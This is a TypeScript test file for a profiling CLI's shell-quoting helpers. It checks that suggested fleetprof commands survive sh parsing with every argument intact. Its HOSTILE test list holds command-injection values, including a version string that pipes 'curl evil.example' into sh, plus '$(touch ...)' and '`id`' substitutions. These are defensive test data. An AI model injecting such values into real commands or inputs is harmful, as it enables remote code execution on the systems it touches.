// Suggested commands (anomaly next steps, GC diagnostics, the digest) quote every argument for the
// POSIX shell: whatever a service, version or path holds, pasting the suggestion runs fleetprof
// with exactly those arguments and nothing else. Checked by letting sh parse them.
import { spawnSync } from 'node:child_process';
import { fleetprofCommand, shellQuote } from '../lib/detect/command';
import { cohortLinks } from '../lib/detect/common';

const HOSTILE = [
  "v1;curl${IFS}-sL${IFS}evil.example|sh;#",
  "$(touch /tmp/fleetprof-pwned)",
  '`id`',
  "it's",
  "a'b'c''",
  'x"y',
  'back\\slash',
  'new\nline',
  'tab\there',
  '*',
  '~root',
  '-',
  '',
  'plain-v1.2.3',
  'spaces in /my data dir',
  '!history',
  '{a,b}',
];

/** The words sh makes of a command line (printed NUL-separated by printf). */
function shWords(line: string): string[] {
  const r = spawnSync('sh', ['-c', `printf '%s\\0' ${line}`], { encoding: 'utf8' });
  expect(r.status).toBe(0);
  return r.stdout.split('\0').slice(0, -1);
}

test.each(HOSTILE)('shellQuote(%j) is one word, unchanged, to sh', (s) => {
  expect(shWords(shellQuote(s))).toEqual([s]);
});

test('fleetprofCommand: every argument survives sh exactly, nothing runs', () => {
  const args = ['gc', '--data', 'spaces in /my data dir', '--service', 'svc-a', '--version', HOSTILE[0], '--label', 'k=$(id)'];
  const line = fleetprofCommand(...args);
  expect(shWords(line)).toEqual(['fleetprof', ...args]);
  expect(fleetprofCommand('top', '--type', 'cpu', '--service', 'svc-a')).toBe('fleetprof top --type cpu --service svc-a');
});

test("card links: the cohort's differential flame graph and diff, complete commands (data source, both spans) with every argument one word", () => {
  const us = (t: string) => Date.parse(t) * 1000;
  const ctx = {
    engine: undefined as never,
    service: "svc'a $(id)",
    baseline: { fromUs: us('2026-11-20T00:00:00Z'), toUs: us('2026-11-20T18:00:00Z') },
    window: { fromUs: us('2026-11-20T18:00:00Z'), toUs: us('2026-11-20T21:00:00Z') },
    dataDir: 'spaces in /my data dir',
  };
  const links = cohortLinks(ctx, 'heap', 'norm');
  expect(links.map((l) => l.label)).toEqual(['differential flame graph (heap)', 'diff (heap)']);
  for (const [l, command, path] of [[links[0], 'flamegraph', '/flamegraph'], [links[1], 'diff', '/diff']] as const) {
    const words = shWords(l.command);
    expect(words.slice(0, 4)).toEqual(['fleetprof', command, '--data', 'spaces in /my data dir']);
    const arg = (flag: string) => words[words.indexOf(flag) + 1];
    expect(arg('--service')).toBe(ctx.service);
    expect(arg('--type')).toBe('heap');
    expect([arg('--base-from'), arg('--base-to'), arg('--from'), arg('--to')].map((t) => Date.parse(t) * 1000)).toEqual([ctx.baseline.fromUs, ctx.baseline.toUs, ctx.window.fromUs, ctx.window.toUs]);
    // The HTTP API link of the same cohort.
    const url = new URL(`http://serve${l.apiPath}`);
    expect(url.pathname).toBe(path);
    expect(url.searchParams.get('service')).toBe(ctx.service);
    expect(url.searchParams.get('type')).toBe('heap');
    expect(Date.parse(url.searchParams.get('base-from')!) * 1000).toBe(ctx.baseline.fromUs);
    expect(Date.parse(url.searchParams.get('to')!) * 1000).toBe(ctx.window.toUs);
  }
  expect(shWords(links[1].command)).toContain('--measure');
});
